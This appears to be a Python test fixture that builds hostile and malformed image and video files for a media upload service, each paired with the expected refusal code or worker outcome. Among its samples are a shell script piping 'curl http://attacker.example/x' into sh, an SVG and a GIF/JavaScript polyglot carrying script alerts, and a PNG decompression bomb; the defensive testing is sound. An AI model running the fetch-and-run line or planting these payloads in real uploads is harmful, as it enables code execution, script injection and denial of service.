"""A corpus of hostile and odd files, made on the fly, each with the outcome a
client is promised: refused at upload with an API.md code, or processed by the
worker to `ready` (odd but valid) or `failed` with its reason.

The same files reach the worker unchecked when they arrive through S3; there a
file the upload refuses ends `failed` with the same reason.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from fractions import Fraction

import av
import numpy as np
from PIL import Image

from tests import media_files
from tests.media_files import _png_chunk, _save, png_claiming_size

# What the probe says for each kind of refusal (catalog.errors / media_pipeline.probe).
NOT_SUPPORTED = "not a supported type"
CORRUPT = "truncated or corrupt"
TOO_MANY_PIXELS = "pixels"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    make: Callable[[], bytes]
    # At upload: (HTTP status, error code), or None when the file is accepted.
    refused: tuple[int, str] | None = None
    # Part of the reason: the upload's error message and the worker's `error`.
    reason: str = ""
    # For accepted files: the worker's outcome.
    outcome: str = "ready"

    @property
    def kind(self) -> str:
        return "video" if self.filename.rsplit(".", 1)[-1] in ("mp4", "mov", "webm") else "image"

    @property
    def content_type(self) -> str:
        # What a client would claim from the name; the server looks at the content.
        return {"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp", "gif": "image/gif"}.get(
            self.filename.rsplit(".", 1)[-1], "video/mp4"
        )


# -- images -------------------------------------------------------------------


def _noise(width: int, height: int, seed: int = 1) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 255, (height, width, 3), dtype=np.uint8))


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def png_noise() -> bytes:
    return _save(_noise(200, 150), "PNG")


def png_with_bad_crc() -> bytes:
    data = bytearray(png_noise())
    idat = data.index(b"IDAT")
    length = struct.unpack(">I", data[idat - 4 : idat])[0]
    crc_at = idat + 4 + length
    data[crc_at : crc_at + 4] = bytes(b ^ 0xFF for b in data[crc_at : crc_at + 4])
    return bytes(data)


def webp_noise() -> bytes:
    return _save(_noise(200, 150), "WEBP", quality=80)


def webp_garbage() -> bytes:
    body = b"VP8 " + struct.pack("<I", 4000) + b"\x9d\x01\x2a" + bytes(range(256)) * 16
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def png_bomb(side: int = 10_000) -> bytes:
    """A real decompression bomb: 100 megapixels of grey that compress to
    about 100 KB, within the side limit but over the pixel limit."""
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" * (side + 1)
    idat = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def gif_javascript_polyglot() -> bytes:
    # Starts as a GIF and reads as JavaScript: `GIF89a/*...*/=alert(1)`.
    return b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(document.domain);//" + b"\x00" * 64


def jpeg_zip_polyglot() -> bytes:
    # A valid JPEG with a zip archive after it: decoders read the picture.
    return media_files.jpeg_bytes(96, 64) + zip_archive()


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.sh", "#!/bin/sh\necho owned\n")
    return buffer.getvalue()


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'
HTML = b"<!doctype html><html><body><script>fetch('/api/v1/products/')</script></body></html>"
SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/x | sh\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


# -- videos -------------------------------------------------------------------


def _encode(
    fmt: str,
    codec: str,
    frames: list[tuple[np.ndarray, int]],
    rate: int | Fraction,
    pix_fmt: str = "yuv420p",
    time_base: Fraction | None = None,
) -> bytes:
    """Frames as (rgb pixels, pts) encoded into a `fmt` container."""
    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format=fmt) as container:
        stream = container.add_stream(codec, rate=rate)
        height, width = frames[0][0].shape[:2] if frames else (48, 64)
        stream.width, stream.height, stream.pix_fmt = width, height, pix_fmt
        if codec == "libx264":
            stream.options = {"preset": "ultrafast"}
        if time_base is not None:
            stream.codec_context.time_base = time_base
        for pixels, pts in frames:
            frame = av.VideoFrame.from_ndarray(pixels, format="rgb24")
            frame.pts = pts
            if time_base is not None:
                frame.time_base = time_base
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return buffer.getvalue()


def _shades(count: int, width: int = 160, height: int = 120) -> list[np.ndarray]:
    return [np.full((height, width, 3), (20 + (i * 37) % 220, 90, 200), dtype=np.uint8) for i in range(count)]


def video_no_frames() -> bytes:
    """A header and an empty track: ffmpeg sees no video stream in it."""
    buffer = io.BytesIO()
    container = av.open(buffer, mode="w", format="mp4")
    stream = container.add_stream("libx264", rate=10)
    stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
    container.start_encoding()
    container.close()
    return buffer.getvalue()


def video_zero_duration() -> bytes:
    """Three decodable frames in a file whose headers say it lasts 0 s."""
    data = bytearray(_encode("mp4", "libx264", [(p, i) for i, p in enumerate(_shades(3, 64, 48))], 10))
    # The duration fields of the movie, media and track headers (version 0 boxes).
    for box, offset in ((b"mvhd", 16), (b"mdhd", 16), (b"tkhd", 20)):
        at = data.index(box) + 4 + offset
        data[at : at + 4] = bytes(4)
    return bytes(data)


def video_variable_frame_rate() -> bytes:
    # Frames at irregular times (in milliseconds): 0, 40, 1000, 1030, 2500, ...
    times = [0, 40, 1000, 1030, 2500, 2520, 2540, 4000]
    return _encode(
        "mp4", "libx264", list(zip(_shades(len(times)), times, strict=True)), 25, time_base=Fraction(1, 1000)
    )


def video_corrupt_middle() -> bytes:
    """A clip whose middle third is overwritten with noise: its start decodes."""
    data = bytearray(media_files.video_bytes(seconds=6, width=320, height=240, fps=10, noise=True))
    start, end = len(data) // 3, 2 * len(data) // 3
    data[start:end] = np.random.default_rng(7).integers(0, 255, end - start, dtype=np.uint8).tobytes()
    return bytes(data)


def video_10_bit() -> bytes:
    return _encode("mp4", "libx264", [(p, i) for i, p in enumerate(_shades(10))], 5, pix_fmt="yuv420p10le")


def video_4k() -> bytes:
    return _encode("mp4", "libx264", [(p, i) for i, p in enumerate(_shades(3, 3840, 2160))], 1)


def video_too_long(seconds: int = 610) -> bytes:
    """Longer than MAX_VIDEO_SECONDS (600): one tiny frame every 10 s."""
    frames = [(p, i) for i, p in enumerate(_shades(seconds // 10 + 1, 32, 32))]
    return _encode("mp4", "libx264", frames, Fraction(1, 10))


def matroska() -> bytes:
    return _encode("matroska", "libx264", [(p, i) for i, p in enumerate(_shades(10))], 5)


def webm() -> bytes:
    return _encode("webm", "libvpx", [(p, i) for i, p in enumerate(_shades(10))], 5)


def mp4_garbage() -> bytes:
    return b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x13\x37" * 5000


CASES = [
    # Broken images
    Case("empty file", "empty.jpg", lambda: b"", (422, "corrupt_file"), "empty"),
    Case("truncated JPEG", "cut.jpg", media_files.truncated_jpeg, (422, "corrupt_file"), CORRUPT),
    Case("JPEG magic, garbage body", "bad.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\x00junk" * 200, (422, "corrupt_file")),
    Case("truncated PNG", "cut.png", lambda: truncated(png_noise()), (422, "corrupt_file"), CORRUPT),
    Case("PNG with a bad checksum", "crc.png", png_with_bad_crc, (422, "corrupt_file"), CORRUPT),
    Case("truncated WebP", "cut.webp", lambda: truncated(webp_noise()), (422, "corrupt_file"), CORRUPT),
    Case("WebP header, garbage body", "bad.webp", webp_garbage, (422, "corrupt_file")),
    Case("decompression bomb", "bomb.png", png_bomb, (422, "image_too_large"), TOO_MANY_PIXELS),
    Case("20,000 px side", "strip.png", lambda: png_claiming_size(20_000, 16), (422, "image_too_large"), "20000x16"),
    # Odd but valid images
    Case("CMYK JPEG", "cmyk.jpg", media_files.cmyk_jpeg),
    Case("16-bit greyscale PNG", "grey16.png", media_files.grey16_png),
    Case("palette PNG with transparency", "palette.png", media_files.palette_png_with_transparency),
    Case("RGBA PNG", "alpha.png", media_files.rgba_png),
    Case("animated GIF", "anim.gif", lambda: media_files.animated("GIF")),
    Case("animated WebP", "anim.webp", lambda: media_files.animated("WEBP")),
    *(
        Case(f"EXIF orientation {n}", f"orientation-{n}.jpg", lambda n=n: media_files.jpeg_with_orientation(n))
        for n in range(1, 9)
    ),
    Case("JPEG named .png", "really-a-jpeg.png", media_files.jpeg_bytes),
    Case("JPEG with a zip appended (polyglot)", "polyglot.jpg", jpeg_zip_polyglot),
    # Not images at all
    Case("SVG named .jpg", "vector.jpg", lambda: SVG, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("HTML named .jpg", "page.jpg", lambda: HTML, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("shell script named .jpg", "run.jpg", lambda: SCRIPT, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("GIF/JavaScript polyglot", "polyglot.gif", gif_javascript_polyglot, (422, "corrupt_file")),
    Case("zip named .jpg", "archive.jpg", zip_archive, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("PDF named .png", "doc.png", lambda: PDF, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("BMP image", "old.jpg", lambda: _save(_noise(40, 30), "BMP"), (415, "unsupported_media_type")),
    Case("TIFF image", "scan.jpg", lambda: _save(_noise(40, 30), "TIFF"), (415, "unsupported_media_type")),
    # Videos
    Case(
        "MP4 with no video stream", "song.mp4", media_files.mp4_audio_only, (415, "unsupported_media_type"), "no video"
    ),
    Case("MP4 with an empty track", "nothing.mp4", video_no_frames, (415, "unsupported_media_type"), "no video"),
    Case("MP4 that says it lasts 0 s", "zero.mp4", video_zero_duration),
    Case("MP4 header, garbage body", "broken.mp4", mp4_garbage, (422, "corrupt_file"), "cannot be read"),
    Case("truncated MP4", "cut.mp4", lambda: truncated(media_files.video_bytes(seconds=2)), (422, "corrupt_file")),
    Case("MP4 with a corrupt middle", "damaged.mp4", video_corrupt_middle, reason="Decoding stopped"),
    Case("variable frame rate", "vfr.mp4", video_variable_frame_rate),
    Case("rotation metadata", "rotated.mp4", lambda: media_files.video_bytes(seconds=2, rotation=90)),
    Case("10-bit H.264", "ten-bit.mp4", video_10_bit),
    Case("4K", "uhd.mp4", video_4k),
    Case("longer than the limit", "long.mp4", video_too_long, (422, "video_too_long"), "limit is 600 s"),
    Case("Matroska named .mp4", "movie.mp4", matroska, (415, "unsupported_media_type"), NOT_SUPPORTED),
    Case("WebM named .mp4", "clip.mp4", webm),
]
